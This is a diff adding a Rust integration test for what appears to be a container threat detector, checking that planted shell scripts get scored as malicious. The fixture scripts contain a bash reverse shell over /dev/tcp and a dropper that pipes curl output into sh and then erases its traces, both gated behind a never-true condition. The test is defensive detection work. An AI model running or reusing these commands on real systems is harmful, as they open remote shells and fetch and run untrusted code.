@@ -1681,6 +1681,78 @@ fn yara_rules_fire_on_matching_executables_in_a_real_container() {
     assert_recording_replays(&stopped);
 }
 
+#[test]
+fn shell_scripts_run_in_a_real_container_are_scored() {
+    if !live_allowed("shell_scripts_run_in_a_real_container_are_scored") {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let watch = Watch::start(&[]);
+    let c = TestContainer::start("script-web", "registry.example.com/script/web:1");
+    // Each script is harmless to run (the attack lines sit behind a test that is false), and the
+    // scoring reads the text: a reverse shell run as `sh FILE`, a dropper run by its `#!` line.
+    let setup = r#"
+cat > /tmp/tunnel.sh <<'END'
+if [ -n "$SHRIKE_NEVER_SET" ]; then
+  bash -i >& /dev/tcp/127.0.0.1/9 0>&1
+fi
+END
+cat > /tmp/update.sh <<'END'
+#!/bin/sh
+if [ -n "$SHRIKE_NEVER_SET" ]; then
+  curl -s http://192.0.2.10/k | sh
+  history -c
+  rm -f "$0"
+fi
+exit 0
+END
+cat > /tmp/entrypoint.sh <<'END'
+#!/bin/bash
+(echo > /dev/tcp/127.0.0.1/1) 2>/dev/null || true
+if [ -n "$CONFIG_B64" ]; then echo "$CONFIG_B64" | base64 -d > /tmp/config.yml; fi
+exit 0
+END
+chmod +x /tmp/update.sh /tmp/entrypoint.sh
+"#;
+    assert!(c.exec(&["sh", "-c", setup]).status.success());
+    assert!(c.exec(&["sh", "/tmp/tunnel.sh"]).status.success());
+    assert!(c.exec(&["/tmp/update.sh"]).status.success());
+    assert!(c.exec(&["/tmp/entrypoint.sh"]).status.success());
+    let stopped = watch.stop();
+
+    let scripts = in_container(&stopped, "MALICIOUS_SCRIPT_EXECUTED", &c);
+    let path_of = |f: &Value| {
+        f["finding"]["sourceProperties"]["Script_Path"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+    let mut paths: Vec<String> = scripts.iter().map(|f| path_of(f)).collect();
+    paths.sort();
+    assert_eq!(paths, ["/tmp/tunnel.sh", "/tmp/update.sh"], "{scripts:#?}");
+    for f in &scripts {
+        let props = &f["finding"]["sourceProperties"];
+        assert!(props["Shell_Script_Score"].as_f64().unwrap() >= 0.8, "{f}");
+        assert!(props["Yara_Rules"].is_null(), "{f}");
+        let script = &f["finding"]["processes"][0]["script"];
+        assert_eq!(script["path"], path_of(f).as_str(), "{f}");
+        assert!(script["sha256"].is_string(), "{f}");
+        assert_container_fields(f, &c);
+    }
+    let tunnel = scripts
+        .iter()
+        .find(|f| path_of(f) == "/tmp/tunnel.sh")
+        .unwrap();
+    assert!(
+        tunnel["finding"]["sourceProperties"]["Shell_Script_Indicators"]
+            .as_str()
+            .unwrap()
+            .starts_with("an interactive shell over /dev/tcp"),
+        "{tunnel}"
+    );
+    assert_recording_replays(&stopped);
+}
+
 /// A shared library built here with the host C compiler, carrying `marker` in its read-only
 /// data; its bytes.
 fn shared_library(marker: &str) -> Vec<u8> {
